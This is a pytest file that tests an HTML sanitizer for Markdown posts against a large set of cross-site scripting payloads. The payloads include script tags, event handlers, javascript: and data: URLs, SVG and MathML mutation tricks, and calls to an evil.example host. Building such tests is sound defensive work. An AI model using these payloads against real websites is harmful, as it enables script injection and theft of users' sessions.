"""render_markdown() against hostile Markdown and HTML: nothing a browser would run survives.

Posts are rendered once, stored, and shown with `|safe`, so whatever leaves
render_markdown() reaches every reader. The output is checked the way a browser reads
it, not by looking for the word "script": parsed with html.parser (not with nh3, which
made it), every element and attribute must be on the allowlist, and every URL, once
decoded as a browser decodes it, must be http(s), mailto, tel or relative.
"""

import re
import time
from collections import Counter
from html.parser import HTMLParser

import markdown
import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app import markup
from app.markup import plain_text, render_markdown

REL = "noopener noreferrer nofollow"
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}
# Elements that run code, load or embed other documents, submit forms, change how the
# page is parsed or styled: never in the output, whatever the allowlist says.
NEVER_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "param",
    "svg", "math", "form", "input", "button", "select", "option", "textarea", "isindex",
    "meta", "base", "link", "template", "noscript", "noembed", "noframes", "xmp",
    "plaintext", "title", "img", "image", "video", "audio", "source", "track", "picture",
    "canvas", "portal", "fencedframe", "marquee", "details", "dialog", "html", "head",
    "body", "set", "animate", "use", "foreignobject", "maction", "annotation-xml",
}
NEVER_ATTRIBUTES = {
    "style", "id", "class", "name", "form", "formaction", "action", "src", "srcset", "srcdoc",
    "xlink:href", "data", "poster", "background", "dynsrc", "lowsrc", "ping", "autofocus",
    "tabindex", "contenteditable", "target", "download", "http-equiv", "content", "is",
    "popover", "popovertarget", "markdown",
}
# nh3 allows these on every element unless told otherwise, and render_markdown() does not
# override them: plain text for tooltips and language, nothing a browser runs.
NH3_GENERIC_ATTRIBUTES = {"lang", "title"}
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "data", "poster", "background",
    "cite", "longdesc", "srcset", "ping", "codebase", "dynsrc", "lowsrc", "icon", "manifest",
}
ALLOWED_TAG_RE = "|".join(sorted(markup.TAGS, key=len, reverse=True))
# Every "<" of the serialised output must open or close an allowed element: this catches
# comments, declarations, CDATA and foreign tags without trusting any parser.
STRAY_MARKUP = re.compile(rf"<(?!/?(?:{ALLOWED_TAG_RE})[\t\n\f\r />])")
URL_SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.\-]*):")


class _Elements(HTMLParser):
    """The elements, attributes and non-element markup of some HTML, as a browser sees them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.texts: list[tuple[str, str]] = []  # (innermost open element, text)
        self.other: list[str] = []
        self._open: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))
        if tag not in {"br", "hr"}:
            self._open.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_endtag(self, tag):
        if tag in self._open:
            while self._open.pop() != tag:
                pass

    def handle_data(self, data):
        self.texts.append((self._open[-1] if self._open else "", data))

    def handle_comment(self, data):
        self.other.append(f"<!--{data}-->")

    def handle_decl(self, decl):
        self.other.append(f"<!{decl}>")

    def handle_pi(self, data):
        self.other.append(f"<?{data}>")

    def unknown_decl(self, data):
        self.other.append(f"<![{data}]>")


def parse(out: str) -> _Elements:
    parser = _Elements()
    # A browser's input stream turns CR and CRLF into LF before the tokenizer sees them.
    parser.feed(out.replace("\r\n", "\n").replace("\r", "\n"))
    parser.close()
    return parser


def browser_scheme(url: str) -> str | None:
    """The scheme a browser finds in an attribute value that html.parser already decoded.

    The URL parser strips leading and trailing C0 controls and spaces and drops every tab
    and newline, then reads a scheme up to the first ":"; without one the URL is relative.
    """
    url = url.strip("".join(map(chr, range(0x21))))
    url = re.sub(r"[\t\n\r]", "", url)
    match = URL_SCHEME.match(url)
    return match.group(1).lower() if match else None


def problems(out: str) -> list[str]:
    """Everything in some rendered HTML that a browser could run or that is off the allowlist."""
    found = []
    if "\x00" in out:
        found.append("NUL character")
    found += [f"stray markup {out[m.start():m.start() + 40]!r}" for m in STRAY_MARKUP.finditer(out)]
    tree = parse(out)
    found += [f"non-element markup {other!r}" for other in tree.other]
    for tag, attrs in tree.elements:
        if tag not in markup.TAGS or tag in NEVER_TAGS:
            found.append(f"element <{tag}>")
        allowed = (markup.ATTRIBUTES.get(tag, set()) | NH3_GENERIC_ATTRIBUTES
                   | ({"rel"} if tag == "a" else set()))
        for name, value in attrs:
            if name not in allowed or name.startswith("on") or name in NEVER_ATTRIBUTES:
                found.append(f"attribute {name}={value!r} on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                scheme = browser_scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    found.append(f"{scheme}: URL {value!r} in {name} of <{tag}>")
        if tag == "a" and dict(attrs).get("rel") != REL:
            found.append(f"<a> without rel={REL!r}: {attrs!r}")
    return found


def assert_safe(text: str) -> str:
    out = render_markdown(text)
    assert isinstance(out, markup.Markup)
    out = str(out)
    assert problems(out) == [], f"input {text!r}\nrendered {out!r}"
    return out


def sanitise_again(out: str) -> str:
    """The second pass: the same nh3 settings as render_markdown() on its own output."""
    return nh3.clean(out, tags=markup.TAGS, attributes=markup.ATTRIBUTES,
                     url_schemes=markup.URL_SCHEMES, link_rel=REL, strip_comments=True)


def assert_second_pass_removes_nothing(text: str) -> None:
    """Whatever the first pass let through, the same sanitizer lets through again.

    Parsing the output again may add elements (`<p><p></p></p>`, left by a stripped
    `<button>`, parses as three paragraphs) but must not drop one: a dropped element or
    attribute would be one that the first pass let through although nh3 rejects it.
    """
    out = str(render_markdown(text))
    again = sanitise_again(out)
    first, second = (Counter((tag, tuple(sorted(attrs))) for tag, attrs in parse(html).elements)
                     for html in (out, again))
    assert first - second == Counter(), f"input {text!r}\nrendered {out!r}\nagain {again!r}"
    assert problems(again) == [], f"input {text!r}\nagain {again!r}"


# --- The hostile battery --------------------------------------------------------------

SCRIPTS = {
    "script": "<script>alert(1)</script>",
    "script-upper-case": "<SCRIPT>alert(1)</SCRIPT>",
    "script-mixed-case": "<ScRiPt>alert(1)</sCrIpT>",
    "script-src": '<script src="https://evil.example/x.js"></script>',
    "script-module": "<script type=module>import('https://evil.example/x.js')</script>",
    "script-slash-attribute": "<script/xss src=//evil.example/x.js></script>",
    "script-unclosed": "<script>alert(1)",
    "script-no-closing-bracket": "<script>alert(1)</script",
    "script-newline-in-tags": "<script\n>alert(1)</script\n>",
    "script-name-split-by-newline": "<scr\nipt>alert(1)</scr\nipt>",
    "script-body-split-by-blank-line": "<script>/*\n\n*/alert(1)</script>",
    "script-nested-names": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-doubled-brackets": "<<script>script>alert(1)<</script>/script>",
    "script-inside-a-sentence": "Bonjour <script>alert(1)</script> à toutes et tous.",
    "script-in-paragraph-tag": "<p><script>alert(1)</script></p>",
    "script-in-raw-div-block": "<div>\n<script>alert(1)</script>\n</div>",
    "script-in-list": "* un\n* <script>alert(1)</script>",
    "script-in-blockquote": "> <script>alert(1)</script>",
    "script-in-table-cell": "| a |\n|---|\n| <script>alert(1)</script> |",
    "script-in-heading": "# <script>alert(1)</script>",
    "script-in-emphasis": "**<script>alert(1)</script>**",
    "script-in-link-text": "[<script>alert(1)</script>](https://ok.example)",
    "script-in-code-span": "`<script>alert(1)</script>`",
    "script-in-double-backtick-span": "`` <script>alert(1)</script> ``",
    "script-in-unclosed-code-span": "`<script>alert(1)</script>",
    "script-in-fenced-code": "```\n<script>alert(1)</script>\n```",
    "script-in-tilde-fence": "~~~html\n<script>alert(1)</script>\n~~~",
    "script-in-indented-code": "    <script>alert(1)</script>",
    "script-after-unclosed-fence": "```\n<script>alert(1)</script>",
    "script-backslash-escaped": "\\<script>alert(1)\\</script>",
    "script-as-entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "script-with-nul-in-name": "<scr\x00ipt>alert(1)</script>",
    "script-after-nul": "\x00<script>alert(1)</script>",
    "script-after-byte-order-mark": "\ufeff<script>alert(1)</script>",
    "script-markdown-placeholder": "<script>alert(1)</script>\n\n"
                                   "\x02wzxhzdk:0\x03 \x02klzzwxh:0\x03",
}

EVENT_HANDLERS = {
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-quoted": '<img src="x" onerror="alert(1)">',
    "img-onerror-mixed-case": "<img src=x oNeRrOr=alert(1)>",
    "img-slash-separators": "<img/src=x/onerror=alert(1)>",
    "img-backtick-values": "<img src=`x` onerror=`alert(1)`>",
    "img-form-feed-separator": "<img src=x\x0conerror=alert(1)>",
    "img-nul-separator": "<img src=x\x00onerror=alert(1)>",
    "img-unclosed": "<img src=x onerror=alert(1)//",
    "body-onload": "<body onload=alert(1)>",
    "b-onmouseover": '<b onmouseover="alert(1)">survol</b>',
    "b-onclick-newline": "<b\nonclick=alert(1)>x</b>",
    "b-onclick-slash": "<b/onclick=alert(1)>x</b>",
    "b-onclick-entity-value": "<b onclick=&#97;lert(1)>x</b>",
    "strong-onpointerenter": '<strong onpointerenter="alert(1)">x</strong>',
    "a-onclick-with-safe-href": '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "input-autofocus-onfocus": "<input autofocus onfocus=alert(1)>",
    "p-autofocus-onfocus": '<p tabindex=1 autofocus onfocus="alert(1)">x</p>',
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "video-source-onerror": "<video><source onerror=alert(1)></video>",
    "audio-onerror": "<audio src=x onerror=alert(1)>",
    "marquee-onstart": "<marquee onstart=alert(1)>x</marquee>",
    "em-onanimationstart": "<em onanimationstart=alert(1) style=animation-name:x>x</em>",
    "closing-tag-with-handler": "x</b onclick=alert(1)>",
    "heading-onclick": "<h1 onclick=alert(1)>x</h1>",
    "h1-prefix-tag": "<h1x onclick=alert(1)>x</h1x>",
    "abbr-onmouseover": '<abbr title="x" onmouseover="alert(1)">x</abbr>',
    "table-cell-onclick": '<table><tr><td onclick="alert(1)">x</td></tr></table>',
    "ol-start-breakout": '<ol start="1" onclick="alert(1)"><li>x</li></ol>',
    "markdown-link-title-breakout": '[x](https://ok.example "a" onmouseover="alert(1)")',
    "markdown-link-title-escaped-quotes": '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")',
    "markdown-link-url-breakout": '[x](https://ok.example/"onmouseover="alert(1))',
    "markdown-image-title-breakout": '![x](https://ok.example/a.png "a" onerror="alert(1)")',
    "markdown-image-alt-breakout": '![" onerror="alert(1)](https://ok.example/a.png)',
}

# Each payload is tried in every place where Markdown or HTML takes a URL.
URL_PAYLOADS = {
    "javascript": "javascript:alert(1)",
    "javascript-mixed-case": "JaVaScRiPt:alert(1)",
    "javascript-leading-spaces": "   javascript:alert(1)",
    "javascript-decimal-entity": "&#106;avascript:alert(1)",
    "javascript-hex-entity": "&#x6A;avascript:alert(1)",
    "javascript-padded-entities-no-semicolon": "&#0000106&#0000097vascript:alert(1)",
    "javascript-all-entities": "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
                               "alert(1)",
    "javascript-colon-entity": "javascript&colon;alert(1)",
    "javascript-tab": "java\tscript:alert(1)",
    "javascript-tab-entity": "java&#9;script:alert(1)",
    "javascript-hex-tab-entity": "java&#x09;script:alert(1)",
    "javascript-newline-entity": "java&#10;script:alert(1)",
    "javascript-carriage-return-entity": "java&#13;script:alert(1)",
    "javascript-leading-control-entity": "&#x01;javascript:alert(1)",
    "javascript-leading-space-entity": "&#32;javascript:alert(1)",
    "javascript-leading-control": "\x01javascript:alert(1)",
    "javascript-comment-newline": "javascript://%0aalert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "vbscript-mixed-case": "VbScRiPt:msgbox(1)",
    "data-html-base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data-html": "data:text/html,<script>alert(1)</script>",
    "data-svg": "data:image/svg+xml,<svg onload=alert(1)>",
    "data-mixed-case": "DaTa:text/html,<script>alert(1)</script>",
    "livescript": "livescript:alert(1)",
    "file": "file:///etc/passwd",
}
URL_PLACES = {
    "inline-link": "[clic]({url})",
    "inline-link-angle-brackets": "[clic](<{url}>)",
    "inline-link-with-title": '[clic]({url} "titre")',
    "reference-link": "[clic][r]\n\n[r]: {url}",
    "reference-link-angle-brackets": "[clic][r]\n\n[r]: <{url}>",
    "short-reference-link": "[r]\n\n[r]: {url}",
    "autolink": "<{url}>",
    "image": "![img]({url})",
    "image-reference": "![img][r]\n\n[r]: {url}",
    "raw-a-double-quotes": '<a href="{url}">clic</a>',
    "raw-a-single-quotes": "<a href='{url}'>clic</a>",
    "raw-a-unquoted": "<a href={url}>clic</a>",
    "raw-a-inside-paragraph": 'Voir <a href="{url}">ici</a>.',
    "footnote-link": "note[^1]\n\n[^1]: [clic]({url})",
}

EMBEDDING = {
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-xlink-href": '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">clic</text>'
                      "</a></svg>",
    "svg-href": '<svg><a href="javascript:alert(1)"><text>clic</text></a></svg>',
    "svg-animate-onbegin": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg-set-href": '<svg><a><set attributeName="href" to="javascript:alert(1)"/>'
                    "<text>clic</text></a></svg>",
    "svg-use-data": "<svg><use href=\"data:image/svg+xml,<svg id='x' "
                    "xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/>"
                    '</svg>#x"/></svg>',
    "svg-foreign-object-iframe": "<svg><foreignObject><iframe src=javascript:alert(1)>"
                                 "</iframe></foreignObject></svg>",
    "svg-style-import": "<svg><style>@import 'https://evil.example/x.css'</style></svg>",
    "math-href": '<math href="javascript:alert(1)">clic</math>',
    "math-maction": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>clic"
                    "</maction></math>",
    "math-mglyph-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math-annotation-xml": '<math><annotation-xml encoding="text/html"><img src=x '
                           "onerror=alert(1)></annotation-xml></math>",
    "iframe-javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "iframe-remote": "<iframe src=https://evil.example></iframe>",
    "object-javascript": '<object data="javascript:alert(1)"></object>',
    "object-data-html": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "embed-javascript": '<embed src="javascript:alert(1)">',
    "embed-remote": "<embed src=https://evil.example/x.swf>",
    "applet": "<applet code=x.class></applet>",
    "frameset": "<frameset><frame src=javascript:alert(1)></frameset>",
    "portal": "<portal src=https://evil.example></portal>",
    "form-action": '<form action="javascript:alert(1)"><button>Envoyer</button></form>',
    "button-formaction": '<button formaction="javascript:alert(1)">x</button>',
    "input-formaction": "<form><input type=submit formaction=javascript:alert(1)></form>",
    "button-form-attribute": "<form id=f></form><button form=f formaction=javascript:alert(1)>x"
                             "</button>",
    "input-image": "<input type=image src=x onerror=alert(1)>",
    "isindex": "<isindex action=javascript:alert(1) type=image>",
    "input-clobbers-csrf-token": '<input name="csrf_token" value="x">',
    "meta-refresh-javascript": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "meta-refresh-remote": "<meta http-equiv=refresh content='0; url=https://evil.example'>",
    "meta-charset": "<meta charset=utf-7>",
    "base-href": '<base href="https://evil.example/">',
    "base-javascript": "<base href=javascript:/a/>",
    "link-stylesheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "link-preload-script": "<link rel=preload as=script href=//evil.example/x.js>",
    "style-url-javascript": "<style>body{background:url(javascript:alert(1))}</style>",
    "style-expression": "<style>*{width:expression(alert(1))}</style>",
    "style-import": "<style>@import 'https://evil.example/x.css';</style>",
    "style-unclosed": "<style>*{color:red}",
    "style-attribute-url": '<p style="background:url(javascript:alert(1))">x</p>',
    "style-attribute-expression": '<div style="width:expression(alert(1))">x</div>',
    "style-attribute-behavior": '<b style="behavior:url(x.htc)">x</b>',
    "style-attribute-moz-binding": '<span style="-moz-binding:url(https://evil.example/x.xml#x)">'
                                   "x</span>",
    "style-attribute-overlay": '<a href="https://ok.example" style="position:fixed;top:0;left:0;'
                               'width:100%;height:100%">plein écran</a>',
    "template-script": "<template><script>alert(1)</script></template>",
    "template-img": "<template><img src=x onerror=alert(1)></template>",
    "noscript-img": "<noscript><img src=x onerror=alert(1)></noscript>",
    "noscript-style": "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
}

MUTATIONS = {
    "noscript-title-breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "svg-style-id-breakout": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "a-svg-style-breakout": '<a href="https://ok.example"><svg><style><a id="</style>'
                            '<img src=1 onerror=alert(1)>">',
    "math-style-comment": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;'
                          '&lt;img src=1 onerror=alert(1)&gt;">',
    "form-math-nesting": "<form><math><mtext></form><form><mglyph><style></math>"
                         "<img src onerror=alert(1)>",
    "svg-p-style": "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "xmp-title-breakout": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "iframe-title-breakout": '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
    "noembed-title-breakout": '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    "noframes-title-breakout": '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
    "textarea-title-breakout": '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "title-title-breakout": '<title><p title="</title><img src=x onerror=alert(1)>">',
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "select-template": "<select><template><img src=x onerror=alert(1)></template></select>",
    "table-svg-style": "<table><td><svg><style><img src=x onerror=alert(1)>",
    "attribute-closing-quote-missing": '<img src="x" onerror="alert(1)"',
    "doubled-angle-brackets": "<<img src=x onerror=alert(1)>>",
    "tag-inside-tag": "<b <img src=x onerror=alert(1)>>",
    "quotes-in-tag": '<img """><script>alert(1)</script>">',
    "nested-anchors": '<a href="https://ok.example"><a href="javascript:alert(1)">x</a></a>',
    "duplicate-href-javascript-first": "<a href=javascript:alert(1) href=https://ok.example>x</a>",
    "duplicate-href-javascript-last": "<a href=https://ok.example href=javascript:alert(1)>x</a>",
    "href-with-nul": '<a href="java\x00script:alert(1)">x</a>',
    "href-tab-separator": "<a\thref=javascript:alert(1)>x</a>",
    "misnested-formatting": "<p><b><i>x</p></b><script>alert(1)</script>",
    "unbalanced-closing-tags": "</div></p></script><img src=x onerror=alert(1)>",
    "comment": "<!--<img src=x onerror=alert(1)>-->",
    "comment-abrupt-close": "<!--><img src=x onerror=alert(1)>-->",
    "comment-abrupt-close-dash": "<!---><img src=x onerror=alert(1)>-->",
    "comment-bang-close": "<!-- --!><img src=x onerror=alert(1)>-->",
    "comment-conditional": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "comment-unclosed": "<!-- <img src=x onerror=alert(1)>",
    "comment-close-in-text": "--><script>alert(1)</script>",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "cdata-in-svg": "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
    "doctype": "<!DOCTYPE html><script>alert(1)</script>",
    "xml-declaration": '<?xml version="1.0"?><script>alert(1)</script>',
    "processing-instruction": "<? echo '<script>alert(1)</script>' ?>",
    "element-declaration": "<!ELEMENT x ANY><img src=x onerror=alert(1)>",
    "entity-tag": "&lt;img src=x onerror=alert(1)&gt;",
    "decimal-entity-tag": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "hex-entity-tag": "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "double-encoded-entity": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "bad-numeric-entities": "&#0; &#xD800; &#1114112; &#x110000; &#128;<b>x</b>",
    "all-control-characters": "".join(map(chr, range(32))) + "\x7f\x85\u2028\u2029<b>x</b>",
}

EXTRA = {
    "attr-list-onclick": 'paragraphe\n{: onclick="alert(1)" }',
    "attr-list-id-class-style": '# Titre {: #id .class '
                                'style="background:url(javascript:alert(1))" }',

    "attr-list-heading-onclick": "# Titre {: onclick=alert(1) }",
    "attr-list-link-onmouseover": '[lien](https://ok.example){: onmouseover="alert(1)" }',
    "attr-list-link-href": '[lien](https://ok.example){: href="javascript:alert(1)" }',
    "attr-list-image-onerror": '![img](https://ok.example/a.png){: onerror="alert(1)" }',
    "attr-list-emphasis-style": '*x*{: style="position:fixed" }',
    "attr-list-list-item": "* item\n{: onclick=alert(1) }",
    "attr-list-table": "| a |\n|---|\n| b |\n{: onclick=alert(1) }",
    "attr-list-blockquote": "> cite\n{: onclick=alert(1) }",
    "attr-list-srcdoc": 'paragraphe\n{: srcdoc="<script>alert(1)</script>" }',
    "attr-list-alone": "{: #x onclick='alert(1)' }",
    "attr-list-definition": "Terme\n:   définition\n{: onclick=alert(1) }",
    "fenced-code-attributes": "``` { .lang #x onclick=alert(1) }\ncode\n```",
    "fenced-code-style": "~~~ {: style='position:fixed' }\ncode\n~~~",
    "footnote-script": "texte[^1]\n\n[^1]: <script>alert(1)</script>",
    "footnote-img": "texte[^x]\n\n[^x]: <img src=x onerror=alert(1)>\n    <svg onload=alert(1)>",
    "footnote-label-html": "texte[^<img src=x onerror=alert(1)>]\n\n"
                           "[^<img src=x onerror=alert(1)>]: note",
    "footnote-label-quotes": 'texte[^1"onclick="alert(1)]\n\n[^1"onclick="alert(1)]: note',
    "footnote-block-html": "texte[^1]\n\n[^1]:\n    <div onclick=alert(1)>x</div>\n\n"
                           "    <iframe src=javascript:alert(1)>",
    "abbr-title-img": "*[HTML]: <img src=x onerror=alert(1)>\n\nDu HTML ici.",
    "abbr-title-quotes": '*[HTML]: " onmouseover="alert(1)\n\nDu HTML ici.',
    "abbr-title-javascript": "*[HTML]: javascript:alert(1)\n\nDu HTML ici.",
    "abbr-term-html": "*[<img src=x onerror=alert(1)>]: x\n\n<img src=x onerror=alert(1)>",
    "definition-list-script": "Terme\n:   <script>alert(1)</script>",
    "table-hostile-cells": "| <img src=x onerror=alert(1)> | b |\n|---|---|\n"
                           "| [x](javascript:alert(1)) | <svg onload=alert(1)> |",
    "markdown-1-link": '<div markdown="1">[x](javascript:alert(1))</div>',
    "markdown-1-onclick": '<div markdown="1" onclick="alert(1)">*x*</div>',
    "markdown-1-span-img": '<span markdown="1"><img src=x onerror=alert(1)> *x*</span>',
    "markdown-block-script": '<div markdown="block"><script>alert(1)</script></div>',
    "markdown-1-svg": '<div markdown="1">\n<svg onload=alert(1)>\n</div>',
    "markdown-1-paragraph": '<p markdown="1">**x**<script>alert(1)</script></p>',
    "markdown-1-details": '<details markdown="1" open ontoggle="alert(1)">*x*</details>',
    "markdown-1-nested": '<div markdown="1">\n<div markdown="1">\n[x](javascript:alert(1))\n'
                         "</div>\n</div>",
    "markdown-1-code": '<div markdown="1">`<script>alert(1)</script>`</div>',
}


def _battery():
    for group in (SCRIPTS, EVENT_HANDLERS, EMBEDDING, MUTATIONS, EXTRA):
        for name, text in group.items():
            yield pytest.param(text, id=name)
    for place, template in URL_PLACES.items():
        for name, url in URL_PAYLOADS.items():
            yield pytest.param(template.format(url=url), id=f"{place}-{name}")


HOSTILE = list(_battery())


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_input_leaves_nothing_a_browser_would_run(text):
    assert_safe(text)


@pytest.mark.parametrize("text", HOSTILE)
def test_sanitising_the_output_again_removes_nothing(text):
    assert_second_pass_removes_nothing(text)


def test_the_checker_itself_sees_what_a_browser_would_run():
    """The invariants would catch a hole: each of these outputs must be reported."""
    holes = [
        "<script>alert(1)</script>",
        '<p onclick="alert(1)">x</p>',
        '<a href="&#106;avascript:alert(1)" rel="noopener noreferrer nofollow">x</a>',
        '<a href=" java&#9;script:alert(1)" rel="noopener noreferrer nofollow">x</a>',
        '<a href="&#x01;JAVASCRIPT:alert(1)" rel="noopener noreferrer nofollow">x</a>',
        '<a href="https://ok.example">sans rel</a>',
        '<p style="color:red">x</p>',
        '<p class="x">x</p>',
        "<!-- x -->",
        "<svg><a>x</a></svg>",
        "a < b",
    ]
    for hole in holes:
        assert problems(hole), hole
    assert problems('<p>a &lt; b <a href="/x#y" rel="noopener noreferrer nofollow">x</a></p>') == []


def test_the_allowlist_holds_nothing_executable():
    assert not markup.TAGS & NEVER_TAGS
    for tag, attributes in markup.ATTRIBUTES.items():
        assert tag in markup.TAGS
        assert not {a for a in attributes if a.startswith("on")}
        assert not attributes & NEVER_ATTRIBUTES
        assert attributes & URL_ATTRIBUTES <= {"href"}
    assert not NH3_GENERIC_ATTRIBUTES & (NEVER_ATTRIBUTES | URL_ATTRIBUTES)
    assert markup.URL_SCHEMES <= SAFE_SCHEMES


@pytest.mark.parametrize("text", [
    pytest.param("`<script>alert(1)</script>`", id="code-span"),
    pytest.param("```\n<script>alert(1)</script>\n```", id="fenced-code"),
    pytest.param("    <script>alert(1)</script>", id="indented-code"),
    pytest.param('<div markdown="1">`<script>alert(1)</script>`</div>', id="code-in-markdown-1"),
])
def test_code_shows_hostile_html_as_text(text):
    out = assert_safe(text)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out
    assert ("code", "<script>alert(1)</script>") in [
        (tag, data.strip()) for tag, data in parse(out).texts]


@pytest.mark.parametrize("text", [
    pytest.param("[clic](javascript:alert(1))", id="inline"),
    pytest.param("[clic][r]\n\n[r]: javascript:alert(1)", id="reference"),
])
def test_a_dangerous_link_keeps_its_text_and_loses_its_target(text):
    out = assert_safe(text)
    assert out == '<p><a rel="noopener noreferrer nofollow">clic</a></p>'


def test_raw_html_is_shown_as_typed_never_parsed():
    """Nobody writes HTML in a post: it stays text (python-markdown's raw-HTML parsing is
    both a way in and slow on hostile input)."""
    out = assert_safe('<a href="javascript:alert(1)">clic</a> <b>gras</b>')
    assert out == ('<p>&lt;a href="javascript:alert(1)"&gt;clic&lt;/a&gt; '
                   '&lt;b&gt;gras&lt;/b&gt;</p>')


# --- Legitimate Markdown keeps working ------------------------------------------------


@pytest.mark.parametrize(("text", "expected"), [
    pytest.param("# Titre", "<h2>Titre</h2>", id="h1-becomes-h2"),
    pytest.param("##### Titre", "<h6>Titre</h6>", id="h5-becomes-h6"),
    pytest.param("###### Titre", "<h6>Titre</h6>", id="h6-stays-h6"),
    pytest.param("Titre\n=====", "<h2>Titre</h2>", id="setext-heading"),
    pytest.param("[la fiche](https://exemple.fr/a?b=1&c=2 \"Fiche\")",
                 '<p><a href="https://exemple.fr/a?b=1&amp;c=2" title="Fiche" rel="noopener '
                 'noreferrer nofollow">la fiche</a></p>', id="link-with-title"),
    pytest.param("<https://exemple.fr>", '<p><a href="https://exemple.fr" rel="noopener noreferrer '
                 'nofollow">https://exemple.fr</a></p>', id="autolink"),
    pytest.param("Voir https://exemple.fr/guide.", '<p>Voir <a href="https://exemple.fr/guide" '
                 'rel="noopener noreferrer nofollow">https://exemple.fr/guide</a>.</p>',
                 id="bare-url-without-the-full-stop"),
    pytest.param("(www.francetravail.fr)", '<p>(<a href="https://www.francetravail.fr" '
                 'rel="noopener noreferrer nofollow">www.francetravail.fr</a>)</p>',
                 id="bare-www-in-parentheses"),
    pytest.param("https://fr.wikipedia.org/wiki/Tutorat_(travail), lu",
                 '<p><a href="https://fr.wikipedia.org/wiki/Tutorat_(travail)" rel="noopener '
                 'noreferrer nofollow">https://fr.wikipedia.org/wiki/Tutorat_(travail)</a>, lu</p>',
                 id="bare-url-with-its-own-parentheses"),
    pytest.param("**https://a.fr/mon_guide**", '<p><strong><a href="https://a.fr/mon_guide" '
                 'rel="noopener noreferrer nofollow">https://a.fr/mon_guide</a></strong></p>',
                 id="bare-url-underscores-are-not-italics"),
    pytest.param("[https://a.fr](https://b.fr) `https://c.fr`", '<p><a href="https://b.fr" '
                 'rel="noopener noreferrer nofollow">https://a.fr</a> <code>https://c.fr</code></p>',
                 id="no-link-inside-a-link-or-code"),
    pytest.param("https:// et http://localhost", "<p>https:// et http://localhost</p>",
                 id="no-domain-no-link"),
    pytest.param("https://fr.wikipedia.org/wiki/Côte_d'Ivoire", '<p><a href="https://fr.'
                 "wikipedia.org/wiki/Côte_d'Ivoire\" rel=\"noopener noreferrer nofollow\">https://"
                 "fr.wikipedia.org/wiki/Côte_d'Ivoire</a></p>", id="bare-url-with-an-apostrophe"),
    pytest.param("“https://a.fr/x” et l’adresse https://a.fr/y’", '<p>“<a href="https://a.fr/x" '
                 'rel="noopener noreferrer nofollow">https://a.fr/x</a>” et l’adresse <a href="'
                 'https://a.fr/y" rel="noopener noreferrer nofollow">https://a.fr/y</a>’</p>',
                 id="bare-url-in-curly-quotes"),
    pytest.param("_https://a.fr/x_ Lien:https://a.fr/y", '<p><em><a href="https://a.fr/x" '
                 'rel="noopener noreferrer nofollow">https://a.fr/x</a></em> Lien:<a href="'
                 'https://a.fr/y" rel="noopener noreferrer nofollow">https://a.fr/y</a></p>',
                 id="bare-url-in-underscores-or-after-a-colon"),
    pytest.param("www.javascript:alert(1) www.a.fr:port https://xn--a.fr https://a^b.fr",
                 "<p>www.javascript:alert(1) www.a.fr:port https://xn--a.fr https://a^b.fr</p>",
                 id="bare-url-that-is-no-address-stays-text"),
    pytest.param("https://a.fr/_x_/*y*", '<p><a href="https://a.fr/_x_/" rel="noopener '
                 'noreferrer nofollow">https://a.fr/_x_/</a><em>y</em></p>',
                 id="bare-url-shown-as-typed-no-emphasis-inside"),
    pytest.param("[écrire](mailto:rh@exemple.fr) [appeler](tel:+33123456789) [page](/pratiques/x)",
                 '<p><a href="mailto:rh@exemple.fr" rel="noopener noreferrer nofollow">écrire</a> '
